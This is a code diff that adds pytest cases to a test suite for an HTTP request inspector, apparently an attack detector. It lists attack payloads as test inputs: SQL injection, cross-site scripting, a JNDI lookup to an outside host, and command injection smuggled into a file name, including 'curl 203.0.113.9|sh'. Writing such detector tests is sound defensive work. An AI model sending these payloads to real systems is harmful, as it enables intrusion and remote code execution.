@@ -391,3 +391,109 @@ def test_the_documented_examples_run() -> None:
     namespace: dict[str, object] = {}  # the blocks of a page build on each other
     for block in blocks:
         exec(compile(block, "docs", "exec"), namespace)  # noqa: S102 - our own documentation
+
+
+@pytest.mark.parametrize(
+    ("request_", "kind", "location"),
+    [
+        (RequestInfo("GET", "/users/1%27%3B%20DROP%20TABLE%20users--"), "sqli", "path"),
+        (RequestInfo("GET", "/p/%3C%25%3D%207%2A7%20%25%3E"), "ssti", "path"),
+        (RequestInfo("GET", "/regen", "filename=example.com%0Aid"), "cmdi", "query:filename"),
+        (
+            RequestInfo(
+                "POST",
+                "/login",
+                headers=JSON,
+                body=b'{"email": "%27%20OR%201%3D1--", "password": "x"}',
+            ),
+            "sqli",
+            "json:email",
+        ),
+        (RequestInfo("GET", "/", "q=1+or+0x50%3D0x50"), "sqli", "query:q"),
+        (RequestInfo("GET", "/", "cb=-alert(1)-"), "xss", "query:cb"),
+        (
+            RequestInfo("GET", "/", headers=(("referer", "${${lower:j}ndi:ldap://x.example/o}"),)),
+            "ssti",
+            "header:referer",
+        ),
+        (
+            RequestInfo(
+                "POST",
+                "/up",
+                headers=(("content-type", "multipart/form-data; boundary=b"),),
+                body=b'--b\r\nContent-Disposition: form-data; name="f"; '
+                b'filename="a.jpg; curl 203.0.113.9|sh"\r\n\r\nx\r\n--b--\r\n',
+            ),
+            "cmdi",
+            "multipart:f:filename",
+        ),
+        (
+            RequestInfo(
+                "POST",
+                "/up",
+                headers=(("content-type", "multipart/form-data; boundary=b"),),
+                body=b'--b\r\nContent-Disposition: form-data; name="f"; filename="x.svg"\r\n'
+                b"Content-Type: image/svg+xml\r\n\r\n<svg onload=alert(1)></svg>\r\n--b--\r\n",
+            ),
+            "xss",
+            "multipart:f:content",
+        ),
+    ],
+)
+def test_attacks_in_less_common_places(request_: RequestInfo, kind: str, location: str) -> None:
+    result = INSPECTOR.inspect(request_)
+    assert result.verdict == "malicious", result
+    assert (kind, location) in {(f.type, f.location) for f in result.findings}
+
+
+@pytest.mark.parametrize(
+    "request_",
+    [
+        RequestInfo(
+            "POST",
+            "/posts",
+            headers=JSON,
+            body=json.dumps(
+                {"body": "run it with ```bash\npython manage.py migrate\n``` then restart"}
+            ).encode(),
+        ),
+        RequestInfo(
+            "POST",
+            "/import",
+            headers=(("content-type", "multipart/form-data; boundary=b"),),
+            body=b'--b\r\nContent-Disposition: form-data; name="f"; filename="page.html"\r\n'
+            b"Content-Type: text/html\r\n\r\n<!doctype html><html><head><title>t</title>"
+            b"</head><body><p>hi</p></body></html>\r\n--b--\r\n",
+        ),
+        RequestInfo(
+            "PUT",
+            "/config",
+            headers=JSON,
+            body=b'{"log_path": "/var/log/nginx/access.log", "note": "50% off"}',
+        ),
+        RequestInfo("GET", "/static/vendor/jquery.min.js"),
+        RequestInfo(
+            "POST",
+            "/cms",
+            headers=JSON,
+            body=json.dumps(
+                {
+                    "html": (
+                        '<p>Watch:</p><iframe src="https://www.youtube.com/embed/x" '
+                        "allowfullscreen></iframe>"
+                    )
+                }
+            ).encode(),
+        ),
+        RequestInfo("GET", "/docs", "q=how+to+truncate+table+in+postgres"),
+        RequestInfo(
+            "POST",
+            "/t",
+            headers=JSON,
+            body=b'{"tpl": "Hi {{ user.first_name }}, {% if x %}ok{% endif %}"}',
+        ),
+    ],
+)
+def test_content_that_looks_like_code_is_normal(request_: RequestInfo) -> None:
+    result = INSPECTOR.inspect(request_)
+    assert result.verdict == "normal", result
